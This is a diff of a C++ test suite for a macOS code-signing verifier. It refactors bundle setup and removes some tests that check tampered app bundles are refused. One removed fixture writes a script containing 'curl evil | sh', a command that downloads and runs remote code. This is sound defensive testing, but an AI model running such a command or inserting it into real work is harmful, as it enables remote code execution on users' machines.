@@ -6,6 +6,7 @@
 #include <functional>
 #include <string>
 
+#include "BundleBuilder.h"
 #include "MachOBuilder.h"
 #include "MachOSigner.h"
 #include "SigningChain.h"
@@ -49,20 +50,13 @@ Bytes developerIdTool(std::int32_t cputype = kX86_64, const std::string& identif
     return test::signMachO(test::thinMachO(cputype, cputype == kX86_64 ? 3 : 0), o);
 }
 
-std::string infoPlist(const std::string& executable) {
-    PlistDict d;
-    d["CFBundleExecutable"] = PlistValue(executable);
-    d["CFBundleIdentifier"] = PlistValue("com.example.app");
-    d["CFBundlePackageType"] = PlistValue("APPL");
-    return toXmlPlist(PlistValue(std::move(d)));
-}
-
 // A Developer ID app sealed by the test chain.
 std::string signedApp(const TempDir& dir, const std::string& name = "Example.app", test::CmsOptions cms = {}) {
-    const std::string app = dir / name;
-    test::writeFile(app + "/Contents/Info.plist", infoPlist("Example"));
-    test::writeFile(app + "/Contents/MacOS/Example", test::thinMachO(kX86_64, 3));
-    test::writeFile(app + "/Contents/Resources/data.txt", std::string("resource bytes\n"));
+    const std::string app = test::BundleBuilder(dir / name)
+                                .info("CFBundleIdentifier", PlistValue("com.example.app"))
+                                .executable("Example", test::thinMachO(kX86_64, 3))
+                                .resource("data.txt", "resource bytes\n")
+                                .build();
     test::BundleSignOptions o;
     o.code.identifier = "com.example.app";
     o.code.cms = SigningChain::shared().signer(LeafKind::DeveloperIDApplication, false, cms);
@@ -101,16 +95,6 @@ TEST(Attacks, GenuineAppStaysValidAndAccepted) {
     EXPECT_TRUE(v.valid) << codeFailureSentence(v);
     a = assessPath(old, AssessmentType::Execute, anchors());
     EXPECT_EQ(a.source, AssessmentSource::NotarizedDeveloperID) << assessmentText(old, a, 2);
-}
-
-TEST(Attacks, ToolDroppedIntoAnAppDoesNotVouchForTheRest) {
-    TempDir dir;
-    const std::string app = dir / "X.app";
-    test::writeFile(app + "/Contents/Info.plist", infoPlist("tool"));
-    test::writeFile(app + "/Contents/MacOS/tool", developerIdTool());
-    test::writeFile(app + "/Contents/Resources/run.sh", std::string("#!/bin/sh\ncurl evil | sh\n"));
-    test::writeFile(app + "/Contents/Frameworks/libx.dylib", test::thinMachO(kX86_64, 3));
-    expectRefused(app, "invalid Info.plist (plist or signature have been modified)");
 }
 
 TEST(Attacks, SwappedExecutableFromAnotherSignerIsRefused) {
@@ -237,18 +221,10 @@ TEST(Attacks, LinksOutOfTheItemAreNeverFollowed) {
     }
 }
 
-TEST(Attacks, BytesNoSliceAccountsForFailStrictValidation) {
+TEST(Attacks, BytesBetweenSlicesFailStrictValidation) {
     TempDir dir;
-    Bytes thin = developerIdTool();
-    const std::string trailing = dir / "trailing";
-    Bytes withTail = thin;
-    withTail.insert(withTail.end(), {'e', 'v', 'i', 'l'});
-    test::writeFile(trailing, withTail);
-    EXPECT_TRUE(check(trailing).valid);
-    EXPECT_EQ(codeFailureSentence(check(trailing, true)), "main executable failed strict validation");
-    EXPECT_FALSE(assessPath(trailing, AssessmentType::Install, anchors()).accepted);
-
-    Bytes fat = test::fatMachO({thin, developerIdTool(kArm64)}, {{kX86_64, 3}, {kArm64, 0}});
+    // Bytes after a thin file's end are caught the same way (the hostile suite's DataAfterTheSignature).
+    Bytes fat = test::fatMachO({developerIdTool(), developerIdTool(kArm64)}, {{kX86_64, 3}, {kArm64, 0}});
     const std::string clean = dir / "fat";
     test::writeFile(clean, fat);
     EXPECT_TRUE(check(clean, true).valid) << codeFailureSentence(check(clean, true));
@@ -258,42 +234,22 @@ TEST(Attacks, BytesNoSliceAccountsForFailStrictValidation) {
     EXPECT_EQ(codeFailureSentence(check(gap, true)), "main executable failed strict validation");
 }
 
-TEST(Attacks, VersionOneSealIsObsoleteUnderStrictValidation) {
-    TempDir dir;
-    const std::string app = dir / "Old.app";
-    test::writeFile(app + "/Contents/Info.plist", infoPlist("Example"));
-    test::writeFile(app + "/Contents/MacOS/Example", test::thinMachO(kX86_64, 3));
-    test::writeFile(app + "/Contents/Resources/data.txt", std::string("resource bytes\n"));
-    test::BundleSignOptions o;
-    o.code.cms = SigningChain::shared().signer(LeafKind::DeveloperIDApplication);
-    o.version1Only = true;
-    test::signBundle(app, o);
-    expectRefused(app, "resource envelope is obsolete (version 1 signature)", true);
-}
-
 // An app whose nested code is sealed as codesign seals it, by the requirement its signer's identity
 // gives: a universal helper tool and a framework with a header folder linked at its top.
 std::string appWithNestedCode(const TempDir& dir,
                               const std::function<void(const std::string&, test::BundleSignOptions&)>& shape) {
-    const std::string app = dir / "Nested.app";
-    test::writeFile(app + "/Contents/Info.plist", infoPlist("Example"));
-    test::writeFile(app + "/Contents/MacOS/Example", test::thinMachO(kX86_64, 3));
-    test::writeFile(app + "/Contents/MacOS/helper", test::fatMachO({{kX86_64, 3}, {kArm64, 0}}));
-    test::writeFile(app + "/Contents/Resources/en.lproj/Main.strings", std::string("\"a\" = \"b\";\n"));
-    fs::create_symlink("Main.strings", app + "/Contents/Resources/en.lproj/Alias.strings");
-    const std::string kit = app + "/Contents/Frameworks/Kit.framework";
-    for (const char* version : {"A"}) {
-        PlistDict d;
-        d["CFBundleExecutable"] = PlistValue("Kit");
-        d["CFBundleIdentifier"] = PlistValue("com.example.Kit");
-        d["CFBundlePackageType"] = PlistValue("FMWK");
-        test::writeFile(kit + "/Versions/" + version + "/Resources/Info.plist", toXmlPlist(PlistValue(std::move(d))));
-        test::writeFile(kit + "/Versions/" + version + "/Kit", test::thinMachO(kX86_64, 3));
-        test::writeFile(kit + "/Versions/" + version + "/Headers/Kit.h", std::string("int kit(void);\n"));
-    }
-    fs::create_symlink("A", kit + "/Versions/Current");
-    for (const char* name : {"Kit", "Resources", "Headers"})
-        fs::create_symlink(std::string("Versions/Current/") + name, kit + "/" + name);
+    const std::string app = test::BundleBuilder(dir / "Nested.app")
+                                .info("CFBundleIdentifier", PlistValue("com.example.app"))
+                                .executable("Example", test::thinMachO(kX86_64, 3))
+                                .file("Contents/MacOS/helper", test::fatMachO({{kX86_64, 3}, {kArm64, 0}}))
+                                .resource("en.lproj/Main.strings", "\"a\" = \"b\";\n")
+                                .symlink("Contents/Resources/en.lproj/Alias.strings", "Main.strings")
+                                .build();
+    test::BundleBuilder(app + "/Contents/Frameworks/Kit.framework", test::BundleBuilder::Kind::Framework)
+        .executable("Kit", test::thinMachO(kX86_64, 3))
+        .file("Versions/A/Headers/Kit.h", "int kit(void);\n")
+        .symlink("Headers", "Versions/Current/Headers")
+        .build();
     test::BundleSignOptions o;
     o.code.identifier = "com.example.app";
     o.code.teamId = SigningChain::teamId();
@@ -340,20 +296,23 @@ TEST(Attacks, NestedCodeAndSealsAreJudgedAsTheSealSays) {
     adhoc.teamId = SigningChain::teamId();  // the same team in every slice: only the requirement tells them apart
     struct Case {
         const char* name;
+        bool strict;
+        std::string sentence;                            // codesign --verify --deep's; empty: valid, and accepted
         Shape shape;                                     // the seal, made before signing
         std::function<void(const std::string&)> change;  // what is done to the signed app
-        bool strict;
-        std::string sentence;  // codesign --verify --deep's; empty: valid, and accepted
     };
     const std::string kit = "/Contents/Frameworks/Kit.framework";
+    const std::string customOmit = "resource envelope is obsolete (custom omit rules)";
+    const std::string sealBroken = "a sealed resource is missing or invalid";
+    const auto nothing = [](const std::string&) {};
     const Case cases[] = {
-        {"genuine", asIs, [](const std::string&) {}, true, ""},
-        {"helper rebuilt by the same team", asIs,
+        {"genuine", true, "", asIs, nothing},
+        {"helper rebuilt by the same team", true, "", asIs,
          [](const std::string& app) {
              test::writeFile(app + "/Contents/MacOS/helper", developerIdTool(kX86_64, "helper"));
-         },
-         true, ""},
-        {"helper's signed x86_64 slice kept beside an ad hoc arm64 one", asIs,
+         }},
+        {"helper's signed x86_64 slice kept beside an ad hoc arm64 one", false, "nested code is modified or invalid",
+         asIs,
          [&](const std::string& app) {
              const std::string helper = app + "/Contents/MacOS/helper";
              const std::string bytes = test::readFile(helper);
@@ -362,31 +321,27 @@ TEST(Attacks, NestedCodeAndSealsAreJudgedAsTheSealSays) {
              const Bytes signedSlice(bytes.begin() + x86.offset, bytes.begin() + x86.offset + x86.size);
              test::writeFile(helper, test::fatMachO({signedSlice, test::signMachO(test::thinMachO(kArm64, 0), adhoc)},
                                                     {{kX86_64, 3}, {kArm64, 0}}));
-         },
-         false, "nested code is modified or invalid"},
-        {"plug-ins folder omitted from the seal",
+         }},
+        {"plug-ins folder omitted from the seal", true, customOmit,
          [](const std::string&, test::BundleSignOptions& o) {
              o.rules2.push_back({"^Resources/plugins/", true, false, false, 2000});
          },
          [](const std::string& app) {
              test::writeFile(app + "/Contents/Resources/plugins/run.sh", std::string("#!/bin/sh\n"));
-         },
-         true, "resource envelope is obsolete (custom omit rules)"},
-        {"every rule optional", allOptional, [](const std::string&) {}, true,
-         "resource envelope is obsolete (custom omit rules)"},
-        {"every rule optional, nested code removed", allOptional,
-         [](const std::string& app) { fs::remove(app + "/Contents/MacOS/helper"); }, false,
-         "a sealed resource is missing or invalid"},
-        {"sealed link in an optional folder removed", asIs,
-         [](const std::string& app) { fs::remove(app + "/Contents/Resources/en.lproj/Alias.strings"); }, false,
-         "a sealed resource is missing or invalid"},
-        {"framework's top-level link retargeted", asIs,
+         }},
+        {"every rule optional", true, customOmit, allOptional, nothing},
+        {"every rule optional, nested code removed", false, sealBroken, allOptional,
+         [](const std::string& app) { fs::remove(app + "/Contents/MacOS/helper"); }},
+        {"sealed link in an optional folder removed", false, sealBroken, asIs,
+         [](const std::string& app) { fs::remove(app + "/Contents/Resources/en.lproj/Alias.strings"); }},
+        {"framework's top-level link retargeted", true,
+         "unsealed contents present in the root directory of an embedded framework", asIs,
          [&](const std::string& app) {
              fs::remove(app + kit + "/Headers");
              fs::create_symlink("Versions/Current/Resources", app + kit + "/Headers");
-         },
-         true, "unsealed contents present in the root directory of an embedded framework"},
-        {"framework's intact copy in Contents beside its patched version", asIs,
+         }},
+        {"framework's intact copy in Contents beside its patched version", false,
+         "invalid signature (code or signature have been modified)", asIs,
          [&](const std::string& app) {
              const std::string fw = app + kit;
              fs::copy(fw + "/Versions/A", fw + "/Contents", fs::copy_options::recursive);
@@ -394,17 +349,15 @@ TEST(Attacks, NestedCodeAndSealsAreJudgedAsTheSealSays) {
              fs::rename(fw + "/Contents/Kit", fw + "/Contents/MacOS/Kit");
              fs::copy_file(fw + "/Contents/Resources/Info.plist", fw + "/Contents/Info.plist");
              flipCodeByte(fw + "/Versions/A/Kit");
-         },
-         false, "invalid signature (code or signature have been modified)"},
-        {"framework's intact copy in Contents beside its intact version", asIs,
+         }},
+        {"framework's intact copy in Contents beside its intact version", false,
+         "code has no resources but signature indicates they must be present", asIs,
          [&](const std::string& app) {
              fs::copy(app + kit + "/Versions/A", app + kit + "/Contents", fs::copy_options::recursive);
-         },
-         false, "code has no resources but signature indicates they must be present"},
-        {"framework with a second valid version", addSignedVersionB, [](const std::string&) {}, true, ""},
-        {"framework with a modified second version", addSignedVersionB,
-         [&](const std::string& app) { flipCodeByte(app + kit + "/Versions/B/Kit"); }, true,
-         "embedded framework contains modified or invalid version"},
+         }},
+        {"framework with a second valid version", true, "", addSignedVersionB, nothing},
+        {"framework with a modified second version", true, "embedded framework contains modified or invalid version",
+         addSignedVersionB, [&](const std::string& app) { flipCodeByte(app + kit + "/Versions/B/Kit"); }},
     };
     for (const auto& c : cases) {
         SCOPED_TRACE(c.name);
